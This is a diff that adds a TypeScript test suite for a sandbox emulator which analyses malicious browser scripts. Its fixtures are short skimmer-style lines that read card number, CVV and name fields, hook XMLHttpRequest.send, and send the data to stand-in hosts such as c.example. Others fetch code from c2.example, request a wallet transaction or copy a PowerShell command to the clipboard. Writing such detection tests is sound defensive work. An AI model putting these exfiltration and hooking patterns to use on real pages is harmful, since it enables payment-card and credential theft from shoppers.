@@ -1,0 +1,138 @@
+import assert from 'node:assert/strict';
+import { eventsOf, flowsOf, requestsOf, run } from './sandbox-of-tests.ts';
+import { summarise } from '../../../analyzer/emulator/index.ts';
+
+/** Reports what a script saw as the path of a request. */
+async function seen(expression: string): Promise<string> {
+  const trace = await run(
+    `var answer = (function () { return ${expression} })(); fetch('https://seen.example/' + answer);`,
+  );
+  return decodeURIComponent(
+    requestsOf(trace)
+      .find(({ host }) => host === 'seen.example')
+      ?.url.slice(21) ?? '',
+  );
+}
+
+describe('emulator: the decoy world', () => {
+  it('answers selectors of other shops with fitting fields', async () => {
+    const flows = await flowsOf(
+      "new Image().src = 'https://c.example/?' + document.querySelector('#stripe-card-number').value",
+    );
+    assert.deepEqual(
+      flows.map(({ field }) => field),
+      ['card-number'],
+    );
+  });
+
+  it('finds fields by form, name and autocomplete token', async () => {
+    const flows = await flowsOf(`
+      var f = document.forms[0];
+      fetch('https://c.example/', { method: 'POST', body: f['payment[cc_number]'].value + '&' + document.querySelector('[autocomplete=cc-csc]').value + '&'
+        + document.getElementsByName('firstname')[0].value });`);
+    assert.deepEqual(
+      flows.map(({ field }) => field),
+      ['card-cvv', 'card-number', 'name'],
+    );
+  });
+
+  it('decodes entities through an element', async () => {
+    assert.equal(
+      await seen(
+        "(function (t) { t.innerHTML = '&#104;&#x69;&amp;'; return t.value })(document.createElement('textarea'))",
+      ),
+      'hi&',
+    );
+  });
+
+  it('has elements that hold up to checks', async () => {
+    assert.equal(
+      await seen(`[document.createElement('input') instanceof HTMLInputElement, document.querySelector('form') instanceof HTMLFormElement,
+        document.body.tagName, document.querySelectorAll('input').length > 5, typeof document.querySelector('input').getAttribute('name'),
+        Object.prototype.toString.call(window), document.currentScript.tagName].join()`),
+      'true,true,BODY,true,string,[object Window],SCRIPT',
+    );
+  });
+
+  it('looks built in', async () => {
+    assert.equal(
+      await seen("[fetch, document.createElement, eval, setTimeout].map(String).join('|')"),
+      'function fetch() { [native code] }|function createElement() { [native code] }|function eval() { [native code] }|function setTimeout() { [native code] }',
+    );
+  });
+
+  it('says undefined for names that a script asks about', async () => {
+    assert.equal(await seen('typeof someGuard + typeof window.someFlag'), 'undefinedundefined');
+  });
+
+  it('has developer tools closed, and nobody driving', async () => {
+    assert.equal(
+      await seen(
+        '[outerWidth - innerWidth < 100, outerHeight - innerHeight < 160, navigator.webdriver].join()',
+      ),
+      'true,true,false',
+    );
+  });
+
+  it('runs inline scripts, and those that document.write brings, as children', async () => {
+    const trace = await run(`
+      var s = document.createElement('script'); s.text = 'window.a = 1'; document.head.appendChild(s);
+      document.write('<script>window.b = 2<\\/script>'); eval('window.c = 3'); new Function('window.d = 4')();
+      setTimeout('window.e = 5', 1); fetch('https://c.example/' + [a, b, c, d].join(''));`);
+    assert.deepEqual(summarise(trace).dynamicCode, [
+      'Function',
+      'document-write',
+      'eval',
+      'inline-script',
+      'timer',
+    ]);
+    assert.equal(requestsOf(trace)[0]?.url, 'https://c.example/1234');
+  });
+
+  it('keeps direct eval direct, and function texts as they were', async () => {
+    assert.equal(
+      await seen(
+        "(function () { var local = 'in'; return eval('local') + (function f() { eval('1') }).toString() })()",
+      ),
+      "infunction f() { eval('1') }",
+    );
+  });
+
+  it('marks code that came from a server', async () => {
+    const trace = await run(
+      "var w = new WebSocket('wss://c2.example/'); w.onmessage = function (e) { Function(e.data)() }",
+    );
+    assert.equal(summarise(trace).runsRemoteCode, true);
+  });
+
+  it('names replaced built-ins and shows what they catch', async () => {
+    const trace = await run(`
+      var real = XMLHttpRequest.prototype.send;
+      XMLHttpRequest.prototype.send = function (b) { new Image().src = 'https://c.example/?' + btoa(b); return real.apply(this, arguments) };`);
+    const { hooks, flows } = summarise(trace);
+    assert.deepEqual(hooks, ['XMLHttpRequest.send']);
+    assert.ok(flows.some(({ field }) => field === 'card-number'));
+  });
+
+  it('records wallets, workers, WebAssembly and the clipboard', async () => {
+    const trace = await run(`
+      ethereum.request({ method: 'eth_sendTransaction', params: [{ to: '0x0' }] });
+      new Worker(URL.createObjectURL(new Blob(['onmessage = 1']))); WebAssembly.instantiate(new Uint8Array(8));
+      navigator.clipboard.writeText('powershell -e x');`);
+    for (const kind of ['wallet', 'worker', 'wasm', 'clipboard'] as const)
+      assert.notEqual(eventsOf(trace, kind).length, 0, kind);
+  });
+
+  it('tries other worlds when a script hides from the first', async () => {
+    const trace = await run(
+      "if (/google/.test(document.referrer)) location.href = 'https://redirect.example/'",
+    );
+    assert.ok(trace.worlds.includes('search-referrer'));
+    assert.equal(requestsOf(trace)[0]?.host, 'redirect.example');
+  });
+
+  it('lists strings that were decoded and never used', async () => {
+    const trace = await run("var s = 'elpmaxe.terces//:sptth'.split('').reverse().join('');");
+    assert.ok(trace.decoded.some((text) => text.includes('https://secret.example')));
+  });
+});
